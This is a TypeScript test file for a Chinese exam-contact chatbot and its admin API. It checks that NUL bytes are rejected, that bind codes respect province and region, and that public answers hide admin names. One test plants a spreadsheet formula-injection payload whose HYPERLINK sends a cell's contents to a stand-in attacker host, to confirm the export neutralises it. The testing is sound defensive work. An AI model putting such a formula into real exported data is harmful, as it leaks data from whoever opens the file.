import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { backends } from './support/db.js';
import { authHeader, useServiceWithAdmin } from './support/service.js';
import { handleChatTurn } from '../api/chat/handle.js';
import { logQuestion } from '../api/questions/repository.js';
import { listAudit } from '../api/audit/repository.js';

/** The Low findings and M8: NUL bytes, formula injection, bind codes, what is public. */
describe.each(backends)('hostile input on %s', (backend) => {
  const t = useServiceWithAdmin(backend);

  it('a NUL byte is a 400 at the HTTP boundary, and a chat message with one is still answered and logged', async () => {
    expect((await t.svc.request('/api/ask', { json: { text: '山东考试找谁\u0000' } })).status).toBe(400);
    expect((await t.svc.request('/api/provinces/%00/contacts')).status).toBe(400);
    expect((await t.svc.request('/api/exams?year=%00')).status).toBe(400);
    expect((await t.svc.request('/api/admin/contacts', { json: { name: 'a\u0000b', phone: null, role: 'province_lead', provinceCode: '37' }, headers: t.admin })).status).toBe(400);
    const reply = await handleChatTurn(t.svc.services, { text: '山东考试\u0000找谁', channel: 'wechaty', from: { id: 'wxid_nul', name: '空\u0000字符' }, isGroupAdmin: false });
    expect(reply.text).toContain('王鹤璇');
    const rows = await t.svc.db.query<{ question: string }>("select question from questions where sender = 'wxid_nul'");
    expect(rows).toEqual([{ question: '山东考试找谁' }]);
  });

  it('M8: a report field starting with = + - @ is exported as text, not as a formula', async () => {
    const college = ((await (await t.svc.request('/api/admin/colleges', { json: { name: '公式测试学院', provinceCode: '37' }, headers: t.admin })).json()) as any).college;
    const progress = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
    const res = await t.svc.request('/api/reports', { json: { collegeId: college.id, progress, problems: '@SUM(1+1)' }, headers: t.admin });
    expect(res.status).toBe(201);
    const period = ((await res.json()) as { report: { periodId: string } }).report.periodId;
    const csv = await (await t.svc.request(`/api/reports/export?format=csv&region=huabei&period=${period}`, { headers: t.admin })).text();
    expect(csv, csv).toContain(`'=HYPERLINK`);
    expect(csv).toContain(`'@SUM`);
    const xlsx = await (await t.svc.request(`/api/reports/export?format=xlsx&region=huabei&period=${period}`, { headers: t.admin })).arrayBuffer();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx);
    const cells: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
    expect(cells).toContain(`'${progress}`);
    expect(cells.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });

  it('a bind code for a new college checks the province (400) and the region before creating anything', async () => {
    const unknown = await t.svc.request('/api/admin/bind-codes', { json: { collegeName: '不存在省份学院', provinceCode: '99' }, headers: t.admin });
    expect(unknown.status).toBe(400);
    await t.svc.request('/api/admin/accounts', { json: { username: 'huanan', password: 'huanan-manager-pass', role: 'region_manager', regionCode: 'huanan' }, headers: t.admin });
    const huanan = await authHeader(t.svc, 'huanan', 'huanan-manager-pass');
    const foreign = await t.svc.request('/api/admin/bind-codes', { json: { collegeName: '越权创建学院', provinceCode: '37' }, headers: huanan });
    expect(foreign.status).toBe(403);
    const colleges = await t.svc.db.query("select 1 from colleges where name in ('不存在省份学院', '越权创建学院')");
    expect(colleges).toEqual([]);
  });

  it('pushed digests quote no question, and public answers name no console account', async () => {
    await logQuestion(t.svc.db, { channel: 'wechaty', provinceCode: '37', question: '点这个链接领奖 http://spam.example', reply: '…', intent: 'unknown', confidence: 0, abstained: true, status: 'open' });
    const digest = ((await (await t.svc.request('/api/digests?region=huabei', { headers: t.admin })).json()) as any).digest;
    expect(digest.openQuestionCount).toBeGreaterThan(0);
    expect(digest.text).not.toContain('spam.example');

    // An operator-added contact and an answer turned into knowledge: their public sources name the console, not "admin".
    await t.svc.request('/api/admin/contacts', { json: { name: '赵新人', phone: '13800001111', role: 'province_lead', provinceCode: '37' }, headers: t.admin });
    const q = await logQuestion(t.svc.db, { channel: 'api', provinceCode: '37', question: '证书查询网址是什么', reply: '…', intent: 'unknown', confidence: 0, abstained: true, status: 'open' });
    await t.svc.request(`/api/admin/questions/${q}/answer`, { json: { answer: '证书可在证书查询平台查询。', toKnowledge: true }, headers: t.admin });
    for (const text of ['山东负责人', '证书查询网址是什么']) {
      const answer = (await (await t.svc.request('/api/ask', { json: { text } })).json()) as { text: string; sources: unknown };
      expect(JSON.stringify(answer), text).not.toMatch(/admin/);
    }
    // The audit log keeps who did it.
    expect((await listAudit(t.svc.db, { action: 'contact.create' }))[0]).toMatchObject({ actor: 'admin' });
  });
});
